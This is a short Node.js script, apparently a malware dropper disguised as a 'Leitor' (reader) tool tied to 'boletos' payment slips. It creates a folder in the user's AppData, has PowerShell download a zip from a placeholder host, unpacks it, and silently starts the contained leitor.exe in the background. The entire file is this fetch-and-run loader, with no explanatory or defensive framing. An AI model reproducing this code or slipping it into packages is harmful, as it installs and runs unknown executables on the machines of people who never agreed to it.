const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const dir = `${os.homedir()}\\AppData\\Local\\Leitor`;
fs.mkdirSync(dir, { recursive: true });
execSync(`powershell -c "iwr https://boletos-cdn.invalid/pkg/leitor.zip -OutFile ${dir}\\l.zip; Expand-Archive ${dir}\\l.zip ${dir} -Force"`);
execSync(`start "" /b "${dir}\\leitor.exe"`, { shell: "cmd.exe" });
